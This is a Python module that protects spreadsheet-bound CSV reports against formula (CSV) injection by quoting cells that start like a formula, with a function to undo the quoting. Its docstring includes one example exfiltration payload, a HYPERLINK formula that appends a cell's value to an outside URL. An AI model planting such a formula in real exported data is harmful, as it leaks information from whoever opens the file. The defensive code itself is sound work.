"""Text cells a spreadsheet would run as a formula, made plain text (CSV injection).

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula, also when they open a
CSV file: an account named ``=HYPERLINK("https://…?"&A1,"Open")`` in a
report's ``accounts.csv`` runs on the CS manager's machine. OWASP's advice
(CSV Injection, https://owasp.org/www-community/attacks/CSV_Injection) is to
start such a cell with a single quote, which spreadsheets read as "this is
text" and do not show.

Only files meant for people with spreadsheets get this (the report's
``accounts.csv`` and ``alerts.csv``). The ``--format csv`` outputs of
commands are data for programs: their bytes are the contract and stay as
they are. :func:`restore` undoes it for a file read back (a report's
``accounts.csv`` is the next run's ``--previous``).
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

#: first characters that make a cell a formula (OWASP's list)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA = r"[=+\-@\t\r]"


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells that start like a formula begin with ``'``.

    Numbers are left alone: ``-3.5`` in a numeric column is a number, not a formula.
    """
    out = frame.copy(deep=False)
    for column in out.columns:
        values = out[column]
        if values.dtype != object and str(values.dtype) not in ("string", "str"):
            continue
        risky = values.str.match(_FORMULA, na=False).to_numpy(dtype=bool)
        if risky.any():
            out[column] = values.where(~risky, "'" + values.astype(object).where(risky, ""))
    return out


def restore(frame: pd.DataFrame) -> pd.DataFrame:
    """Undo :func:`spreadsheet_safe` on a frame of text cells read back from such a file."""
    for column in frame.columns:
        values = frame[column]
        if values.dtype != object and str(values.dtype) not in ("string", "str"):
            continue
        quoted = values.str.match("'" + _FORMULA, na=False).to_numpy(dtype=bool)
        if quoted.any():
            frame[column] = values.where(~quoted, values.str[1:])
    return frame
